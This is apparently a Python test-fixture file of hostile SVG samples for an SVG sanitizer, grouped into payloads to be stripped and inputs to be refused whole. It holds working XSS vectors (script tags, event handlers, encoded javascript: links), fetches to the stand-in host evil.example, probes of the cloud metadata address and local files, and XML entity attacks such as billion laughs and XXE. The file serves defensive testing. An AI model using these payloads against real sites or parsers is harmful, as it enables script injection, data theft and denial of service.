"""Hostile SVG for tests: what has run scripts or fetched files somewhere, each planted in a picture.

Each sets `window.__pwned` or asks `evil.example` for something, if it works.
"""

_ATTACK = "window.__pwned=1"

# Inside an otherwise harmless picture: these are taken out, the picture stays.
PLANTED = {
    "script": f"<script>{_ATTACK}</script>",
    "script by address": '<script href="https://evil.example/x.js"/>',
    "script by old address": '<script xlink:href="https://evil.example/x.js"/>',
    "script in CDATA": f"<script><![CDATA[{_ATTACK}]]></script>",
    "script of HTML": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{_ATTACK}</x:script>',
    "script nested": f"<g><g><script><script>{_ATTACK}</script></script></g></g>",
    "script in a title": f"<title><script>{_ATTACK}</script></title>",
    "script in capitals": f"<SCRIPT>{_ATTACK}</SCRIPT>",
    "handler on a shape": f'<rect width="9" height="9" onclick="{_ATTACK}" onload="{_ATTACK}"/>',
    "handler on the beginning": f'<animate onbegin="{_ATTACK}" attributeName="x" dur="1s"/>',
    "handler on an error": f'<image href="x" onerror="{_ATTACK}"/>',
    "handler on focus": f'<g tabindex="1" autofocus="" onfocusin="{_ATTACK}"/>',
    "link that runs": f'<a href="javascript:{_ATTACK}"><rect width="9" height="9"/></a>',
    "old link that runs": f'<a xlink:href="javascript:{_ATTACK}"><text y="9">x</text></a>',
    "link in references": f'<a href="&#x6a;avascript:{_ATTACK}"><rect width="9" height="9"/></a>',
    "link with a tab": f'<a href="java&#9;script:{_ATTACK}"><rect width="9" height="9"/></a>',
    "link as data": f'<a href="data:text/html,&lt;script>{_ATTACK}&lt;/script>"><rect/></a>',
    "set a link": f'<a><set attributeName="href" to="javascript:{_ATTACK}"/><rect/></a>',
    "animate a link": f'<a><animate attributeName="xlink:href" values="javascript:{_ATTACK}"/></a>',
    "foreign frame": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
    'src="https://evil.example/"/></foreignObject>',
    "foreign picture": '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
    f'onerror="{_ATTACK}"/></foreignObject>',
    "foreign body": f'<body xmlns="http://www.w3.org/1999/xhtml" onload="{_ATTACK}"/>',
    "style import": '<style>@import "https://evil.example/x.css";</style>',
    "style import by url": "<style>@import url(//evil.example/x.css);rect{fill:red}</style>",
    "style background": '<style>rect{background:url("https://evil.example/x.png")}</style>',
    "style fill": "<style>rect{fill:url(https://evil.example/x.svg#p)}</style>",
    "style font": "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "style escaped": r"<style>rect{fill:u\72l(https://evil.example/x.svg#p)}</style>",
    "style with a comment": "<style>rect{fill:ur/**/l(https://evil.example/x.svg#p)}</style>",
    "style nested": "<style>@media all{rect{fill:url(//evil.example/x.svg#p)}}</style>",
    "style cut by CDATA": f"<style><![CDATA[</style><script>{_ATTACK}</script>]]></style>",
    "attribute style": '<rect style="background:url(https://evil.example/x.png)"/>',
    "attribute style image set": "<rect style=\"fill:image-set('//evil.example/x.png' 1x)\"/>",
    "attribute style expression": f'<rect style="width:expression({_ATTACK})"/>',
    "attribute style variable": '<rect style="--x:url(//evil.example/);fill:var(--x)"/>',
    "attribute fill": '<rect width="9" height="9" fill="url(https://evil.example/x.svg#p)"/>',
    "attribute filter": '<rect width="9" height="9" filter="url(//evil.example/x.svg#f)"/>',
    "attribute mask": '<rect width="9" height="9" mask="url(&quot;//evil.example/x.svg#f&quot;)"/>',
    "attribute cursor": '<rect width="9" height="9" cursor="url(//evil.example/x.cur),auto"/>',
    "attribute base": '<g xml:base="https://evil.example/"><use href="#x"/></g>',
    "picture of metadata": '<image href="http://169.254.169.254/latest/meta-data/"/>',
    "picture by old address": '<image xlink:href="https://evil.example/x.png"/>',
    "picture of a file": '<image href="file:///etc/hostname"/>',
    "picture that is SVG": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "picture that is no PNG": '<image href="data:image/png;base64,PHN2Zy8+"/>',
    "picture that is no JPEG": '<image href="data:image/jpeg;base64,PHN2Zy8+"/>',
    "picture of a filter": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "use of elsewhere": '<use href="//evil.example/x.svg#x"/>',
    "use of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
    "gradient of elsewhere": '<linearGradient id="g" href="https://evil.example/x.svg#g"/>',
    "text on a path of elsewhere": '<text><textPath href="//evil.example/x.svg#p">x</textPath></text>',
    "handler element": f'<handler type="text/javascript">{_ATTACK}</handler>',
    "listener": '<listener event="load" handler="#x"/>',
    "document": '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>',
    "video": '<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x.mp4"/>',
    "embed": '<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>',
    "style of HTML": '<style xmlns="http://www.w3.org/1999/xhtml">@import "//evil.example/";</style>',
    "view": '<view id="v" viewTarget="x"/>',
    "marker": '<marker id="m"><path d="M0 0"/></marker><path marker-mid="url(#m)" d="M0 0"/>',
    "discard": "<discard/>",
    "unknown element": f'<blink onload="{_ATTACK}"/>',
}


def picture(inside="", root=""):
    """A small picture with something inside it or on its root."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 9 9" {root}><path id="x" d="M0 0h9v9z"/>{inside}</svg>'
    ).encode()


ON_THE_ROOT = {
    "handler": picture(root=f'onload="{_ATTACK}"'),
    "style": picture(root='style="background:url(https://evil.example/x.png)"'),
    "old script language": picture(root='contentScriptType="text/javascript"'),
    "comment": b"<!-- <script>window.__pwned=1</script> -->" + picture(),
}

TAKEN_OUT = {name: picture(inside) for name, inside in PLANTED.items()} | ON_THE_ROOT

_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 9))

# Not a picture that could be made harmless: refused whole.
REFUSED = {
    "billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}]>'.encode()
    + picture("<text>&l8;</text>"),
    "quadratic blow-up": f'<!DOCTYPE svg [<!ENTITY a "{"a" * 34_000}">]>'.encode()
    + picture(f"<text>{'&a;' * 10_000}</text>"),
    "file": b'<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]>'
    + picture("<text>&f;</text>"),
    "parameter entity": b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>'
    + picture(),
    "document type": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/">'
    + picture(),
    "empty document type": b"<!DOCTYPE svg>" + picture(),
    "style sheet instruction": b'<?xml-stylesheet href="//evil.example/x.css"?>' + picture(),
    "instruction inside": picture("<?php echo 1 ?>"),
    "unknown entity": picture("<text>&nbsp;</text>"),
    "UTF-16": b"\xff\xfe" + picture().decode().encode("utf-16-le"),
    "UTF-16 by name": b'<?xml version="1.0" encoding="UTF-16"?>' + picture(),
    "UTF-7 by name": b'<?xml version="1.0" encoding="UTF-7"?>' + picture("+ADw-script/+AD4-"),
    "Latin-1 by name": b"<?xml version='1.0' encoding='iso-8859-1'?>"
    + picture("<title>\xe8</title>"),
    "not UTF-8": picture().replace(b"9z", b"\xff"),
    "long attribute": picture(f'<path d="{"M0 0" * 2_500_000}"/>'),
    "deep": picture("<g>" * 33 + "</g>" * 33),
    "deep without end": picture("<g>" * 100_000),
    "many parts": picture("<g/>" * 5001),
    "not closed": picture()[:-6],
    "two roots": picture() + picture(),
    "unbound prefix": picture("<evil:script/>"),
    "another root": b'<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>',
    "root without namespace": b"<svg><path/></svg>",
    "HTML": b"<!doctype html><script>window.__pwned=1</script>",
    "words": b"words",
    "nothing": b"",
    "PDF": b"%PDF-1.7",
    "uses that multiply": picture(
        "".join(f'<g id="a{n}">{f"""<use href="#a{n + 1}"/>""" * 10}</g>' for n in range(9))
        + '<g id="a9"><path d="M0 0"/></g>'
    ),
    "patterns that multiply": picture(
        "".join(
            f'<pattern id="a{n}">{f"""<path fill="url(#a{n + 1})"/>""" * 10}</pattern>'
            for n in range(9)
        )
    ),
    "classes that multiply": picture(
        "<style>"
        + "".join(f".c{n}{{fill:url(#a{n})}}" for n in range(10))
        + "</style>"
        + "".join(
            f'<pattern id="a{n}">{f"""<path class="c{n + 1}"/>""" * 10}</pattern>'
            for n in range(9)
        )
    ),
    "use of itself": picture('<g id="a"><use href="#a"/></g>'),
    "uses in a circle": picture('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
}
